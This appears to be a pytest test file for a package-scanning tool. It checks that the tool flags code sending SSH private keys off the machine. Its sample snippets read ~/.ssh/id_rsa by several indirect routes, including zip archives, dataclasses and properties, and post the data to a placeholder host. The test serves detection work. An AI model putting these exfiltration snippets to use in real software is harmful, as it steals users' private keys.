"""Paths, archives and what objects are made of."""

from __future__ import annotations

from collections.abc import Callable

import pytest

from yanmen.supply.packages.reading.effects import Effect

Effects = Callable[..., list[Effect]]
HEAD = "import io, os, pathlib, zipfile, dataclasses, requests\n"
SENDS = "requests.post('https://a.b.invalid', data={})\n"
CODE = [
    SENDS.format("pathlib.Path('~/.ssh/id_rsa').expanduser().read_text()"),
    "for p in (pathlib.Path.home() / '.ssh').iterdir():\n    " + SENDS.format("p.read_bytes()"),
    SENDS.format("pathlib.Path.home().joinpath('.ssh', 'id_rsa').read_text()"),
    "b = io.BytesIO()\nwith zipfile.ZipFile(b, 'w') as z:\n    z.write(os.path.expanduser('~/.ssh/id_rsa'))\n"
    + SENDS.format("b.getvalue()"),
    "@dataclasses.dataclass\nclass A:\n    key: str\n"
    + SENDS.format("A(open(os.path.expanduser('~/.ssh/id_rsa')).read()).key"),
    "class A:\n    @property\n    def key(self):\n        return open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
    + SENDS.format("A().key"),
]


@pytest.mark.parametrize("code", CODE)
def test_the_key_is_followed(code: str, effects: Effects) -> None:
    """Through paths, archives in memory, data classes and properties."""
    assert any("secret:ssh keys" in one.tags for one in effects(HEAD + code) if one.does == "sends")
